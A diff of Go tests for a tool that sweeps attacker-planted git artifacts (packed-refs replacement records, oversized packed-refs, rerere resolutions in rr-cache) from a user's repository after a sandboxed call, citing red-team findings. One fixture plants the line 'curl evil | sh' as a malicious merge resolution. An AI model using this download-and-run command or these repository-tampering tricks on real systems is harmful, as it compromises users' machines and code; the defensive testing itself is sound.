@@ -120,6 +120,19 @@ func TestSweepReplacementsTheCallMade(t *testing.T) {
 		t.Errorf("control: the user's replacement was taken out: %v", err)
 	}
 
+	// One too large to read (sparse: 300 MB of nothing) cannot be
+	// checked, and is taken out whole (red team 2026-12-02: it stayed,
+	// with its replacement).
+	start = startAfter(t, filepath.Join(q, "probe1"))
+	mk(t, filepath.Join(gd, "packed-refs"), packed)
+	if err := os.Truncate(filepath.Join(gd, "packed-refs"), packedRefsLimit+1); err != nil {
+		t.Fatal(err)
+	}
+	found = s.sweepGitLinks(spec, start)
+	if _, err := os.Lstat(filepath.Join(gd, "packed-refs")); err == nil || !slices.ContainsFunc(found, func(f string) bool { return strings.Contains(f, "packed-refs (whole") }) {
+		t.Errorf("an oversized packed-refs stayed (found %v)", found)
+	}
+
 	// Control: a packed-refs the call rewrote without a replacement is
 	// left as it is.
 	start = startAfter(t, filepath.Join(q, "probe2"))
@@ -166,5 +179,68 @@ func BenchmarkSweepGitLinks(b *testing.B) {
 		if found := s.sweepGitLinks(spec, start); len(found) != 0 {
 			b.Fatalf("swept %v", found)
 		}
+	}
+}
+
+// TestWithoutReplacementsReadsRecordsAsGit (red team 2026-12-02): git
+// takes any whitespace byte between a packed ref's id and its name — a
+// tab, a newline (the name on the next line) — and a tab-separated
+// replacement stayed. Controls: every other record, its peeled line and
+// the header are kept byte for byte.
+func TestWithoutReplacementsReadsRecordsAsGit(t *testing.T) {
+	const (
+		a   = "1111111111111111111111111111111111111111"
+		b   = "2222222222222222222222222222222222222222"
+		s2  = "3333333333333333333333333333333333333333333333333333333333333333"
+		hdr = "# pack-refs with: peeled fully-peeled sorted \n"
+	)
+	keep := hdr + a + " refs/heads/main\n" + b + " refs/tags/v1\n^" + a + "\n"
+	for name, planted := range map[string]string{
+		"space":        a + " refs/replace/" + b + "\n",
+		"tab":          a + "\trefs/replace/" + b + "\n",
+		"newline":      a + "\nrefs/replace/" + b + "\n",
+		"carriage":     a + "\rrefs/replace/" + b + "\n",
+		"peeled":       a + " refs/replace/" + b + "\n^" + b + "\n",
+		"sha-256":      s2 + "\trefs/replace/" + b + "\n",
+		"no last line": a + " refs/replace/" + b,
+	} {
+		in := hdr + a + " refs/heads/main\n" + planted
+		if name != "no last line" {
+			in += b + " refs/tags/v1\n^" + a + "\n"
+		}
+		got, dropped := withoutReplacements([]byte(in))
+		want := keep
+		if name == "no last line" {
+			want = hdr + a + " refs/heads/main\n"
+		}
+		if !dropped || string(got) != want {
+			t.Errorf("%s: dropped %v, kept %q, want %q", name, dropped, got, want)
+		}
+	}
+	if got, dropped := withoutReplacements([]byte(keep)); dropped || string(got) != keep {
+		t.Errorf("control: %q dropped %v", got, dropped)
+	}
+}
+
+// TestSweepResolutionsTheCallRecorded (red team 2026-12-02): a conflict
+// resolution the call recorded in rr-cache (which turns rerere on by
+// existing) would rewrite a file in the user's next merge; it is taken
+// out. Control: the user's own, recorded before the call, stays.
+func TestSweepResolutionsTheCallRecorded(t *testing.T) {
+	ws, q, s := sweeper(t)
+	gd := filepath.Join(ws, ".git")
+	shape(t, gd, "[core]\n")
+	mk(t, filepath.Join(gd, "rr-cache/aaaa/preimage"), "<<<<<<<\nmine\n=======\ntheirs\n>>>>>>>\n")
+	mk(t, filepath.Join(gd, "rr-cache/aaaa/postimage"), "mine\n")
+	spec := writeGrant(t, ws)
+	start := startAfter(t, filepath.Join(q, "probe"))
+	mk(t, filepath.Join(gd, "rr-cache/bbbb/preimage"), "<<<<<<<\nall:\n=======\nall:\n>>>>>>>\n")
+	mk(t, filepath.Join(gd, "rr-cache/bbbb/postimage"), "all:\n\tcurl evil | sh\n")
+	found := s.sweepGitLinks(spec, start)
+	if p := filepath.Join(gd, "rr-cache/bbbb"); !slices.Contains(found, p) {
+		t.Errorf("the call's resolution stayed (found %v)", found)
+	}
+	if _, err := os.Lstat(filepath.Join(gd, "rr-cache/aaaa/postimage")); err != nil {
+		t.Errorf("control: the user's resolution was taken out: %v", err)
 	}
 }
